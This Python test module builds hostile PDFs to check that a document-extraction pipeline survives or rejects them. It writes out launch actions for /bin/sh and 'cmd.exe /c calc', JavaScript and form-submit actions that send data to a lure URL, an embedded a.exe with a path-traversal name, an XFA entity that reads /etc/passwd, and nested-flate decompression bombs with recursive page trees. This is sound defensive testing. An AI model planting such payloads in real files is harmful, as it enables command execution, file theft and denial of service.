"""PDFs with actions and links, pages and streams beyond all measure, structures without end."""

import io
import re
import zlib
from collections.abc import Iterator

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from tests.extract import pdfs
from tests.hostile.good import filing
from tests.hostile.model import Case, Lures, failed, like, survived
from tests.hostile.packages import FORM

_GOOD = f"good/{FORM}.pdf"
_ENDS = ("no_form", "failed", "unsupported")
_TEXT = pdfs.text(50, 50, "绩效目标表")


def actions(lures: Lures) -> Iterator[Case]:
    """A good filing that opens, sends, starts and runs."""
    secret, url = str(lures.secret), lures.url
    kinds = {
        "uri": f"/S /URI /URI ({url}/u)",
        "remote": f"/S /GoToR /F ({secret}) /D [0 /Fit]",
        "launch": "/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>",
        "script": f"/S /JavaScript /JS (app.launchURL\\('{url}/js'\\))",
        "submit": f"/S /SubmitForm /F << /FS /URL /F ({url}/s) >>",
        "import": f"/S /ImportData /F ({secret})",
    }
    good = filing(FORM, "pdf")
    for name, action in kinds.items():
        yield like(
            f"pdf/{name}.pdf", added(good, f"/OpenAction << {action} >> /AA << /WC << {action} >> >>"), _GOOD
        )
    embedded = "/Names << /EmbeddedFiles << /Names [(a.exe) << /F (../../a.exe) /EF << /F 9 0 R >> >>] >> >>"
    yield like("pdf/embedded.pdf", added(good, embedded), _GOOD)
    external = pdfs.pdf(
        _TEXT, objects=[pdfs.stream(b"", f"/F ({secret})")], resources="/XObject << /X 4 0 R >>"
    )
    yield survived("pdf/external_stream.pdf", external, _ENDS)
    xfa = "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><xdp>&x;</xdp>"
    forms = f"/AcroForm << /XFA ({xfa}) /Fields [] >>"
    yield like("pdf/xfa.pdf", added(good, forms), _GOOD)


def added(data: bytes, entries: str) -> bytes:
    """A PDF with more in its catalog; all is written anew, since objects are found by their offsets."""
    bodies = re.findall(rb"\d+ 0 obj\n(.*?)\nendobj\n", data, re.S)
    bodies[0] = bodies[0].removesuffix(b">>") + entries.encode() + b" >>"
    return pdfs.written(bodies)


def pages() -> Iterator[Case]:
    """Boxes, page trees and counts that no printer would take."""
    boxes = {
        "giant": "0 0 1000000000 1000000000",
        "negative": "0 0 -500 -500",
        "flat": "5 5 5 5",
        "words": "a b c d",
        "far": "1e38 1e38 2e38 2e38",
    }
    for name, box in boxes.items():
        data = pdfs.pdf(_TEXT, box=box)
        yield survived(f"pdf/box_{name}.pdf", data, _ENDS)
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    loop = pdfs.written([catalog, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"])
    yield survived("pdf/tree_loop.pdf", loop, _ENDS)
    ring = pdfs.written(
        [
            catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 9 >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 9 /Parent 2 0 R >>",
        ]
    )
    yield survived("pdf/tree_ring.pdf", ring, _ENDS)
    claimed = pdfs.written([catalog, b"<< /Type /Pages /Kids [] /Count 2147483647 >>"])
    yield survived("pdf/claimed_pages.pdf", claimed, _ENDS)
    kids = b"3 0 R " * 100_000
    many = pdfs.written(
        [
            catalog,
            b"<< /Type /Pages /Kids [" + kids + b"] /Count 100000 >>",
            b"<< /Type /Page /Parent 2 0 R >>",
        ]
    )
    yield failed("pdf/many_pages.pdf", many, "100000 pages")
    deep = b"<< /A " * 50_000 + b"1" + b" >>" * 50_000
    yield survived("pdf/deep.pdf", pdfs.pdf(_TEXT, objects=[deep]), _ENDS)
    arrays = b"[" * 100_000 + b"]" * 100_000
    yield survived("pdf/arrays.pdf", pdfs.pdf(_TEXT, objects=[arrays], resources="/ExtGState 4 0 R"), _ENDS)
    backward = pdfs.pdf(_TEXT).replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9")
    yield survived("pdf/xref_loop.pdf", backward, _ENDS)
    yield survived(
        "pdf/no_tree.pdf",
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF",
        _ENDS,
    )


def streams() -> Iterator[Case]:
    """Content that grows without end."""
    zeros = zlib.compress(bytes(300 * 2**20), 9)
    content = pdfs.stream(zlib.compress(zeros, 9), "/Filter [/FlateDecode /FlateDecode]")
    yield survived("pdf/flate.pdf", with_content(content), _ENDS)
    for name, operators in {
        "saved": b"q " * 1_000_000,
        "text": b"BT /F 9 Tf " + b"<7ee96548> Tj " * 50_000 + b"ET",
        "lines": b"0 0 m " + b"9 9 l " * 400_000 + b"S",
        "marks": b"/a BMC " * 3_000,
    }.items():
        data = with_content(pdfs.stream(zlib.compress(operators, 9), "/Filter /FlateDecode"))
        yield survived(f"pdf/many_{name}.pdf", data, _ENDS)
    picture = pdfs.stream(
        zlib.compress(bytes(10 * 2**20), 9),
        "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray"
        " /BitsPerComponent 8 /Filter /FlateDecode",
    )
    yield survived(
        "pdf/giant_picture.pdf",
        pdfs.pdf("600 0 0 400 0 0 cm /X Do", objects=[picture], resources="/XObject << /X 4 0 R >>"),
        _ENDS,
    )
    wrong = pdfs.pdf(_TEXT).replace(b"/Length ", b"/Length 99999999999")
    yield survived("pdf/wrong_length.pdf", wrong, _ENDS)


def with_content(content: bytes) -> bytes:
    """A PDF of one page with this stream."""
    return pdfs.written(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 /MediaBox [0 0 600 400] >>",
            content,
            b"<< /Type /Page /Parent 2 0 R /Contents 3 0 R >>",
        ]
    )


def locked() -> Iterator[Case]:
    """A PDF under a password."""
    file = io.BytesIO()
    canvas = Canvas(file, encrypt=StandardEncryption("secret", strength=128), invariant=1)
    canvas.drawString(50, 50, "locked")
    canvas.save()
    yield failed("locked/a.pdf", file.getvalue(), "password")


def monsters() -> Iterator[Case]:
    """What takes long, or much memory: for the bench, where a worker has to be ended."""
    levels, fan = 12, 10
    forms = [
        pdfs.stream(
            b"/X Do " * fan,
            "/Type /XObject /Subtype /Form /BBox [0 0 600 400]"
            f" /Resources << /XObject << /X {5 + n} 0 R >> >>",
        )
        for n in range(levels)
    ]
    last = pdfs.stream(b"0 0 9 9 re f", "/Type /XObject /Subtype /Form /BBox [0 0 600 400]")
    data = pdfs.pdf("/X Do", objects=[*forms, last], resources="/XObject << /X 4 0 R >>")
    yield failed("monsters/forms_in_forms.pdf", data, "")
    itself = pdfs.stream(
        b"/X Do /X Do",
        "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >>",
    )
    yield survived(
        "monsters/form_in_itself.pdf",
        pdfs.pdf("/X Do", objects=[itself], resources="/XObject << /X 4 0 R >>"),
        _ENDS,
    )
    marks = pdfs.stream(zlib.compress(b"/a BMC " * 300_000, 9), "/Filter /FlateDecode")
    yield failed("monsters/marks.pdf", with_content(marks), "")
    zeros = zlib.compress(zlib.compress(bytes(900 * 2**20), 9), 9)
    yield survived(
        "monsters/flate.pdf", with_content(pdfs.stream(zeros, "/Filter [/FlateDecode /FlateDecode]")), _ENDS
    )


def all_cases(lures: Lures) -> Iterator[Case]:
    """Every hostile PDF but for the monsters."""
    yield from actions(lures)
    yield from pages()
    yield from streams()
    yield from locked()
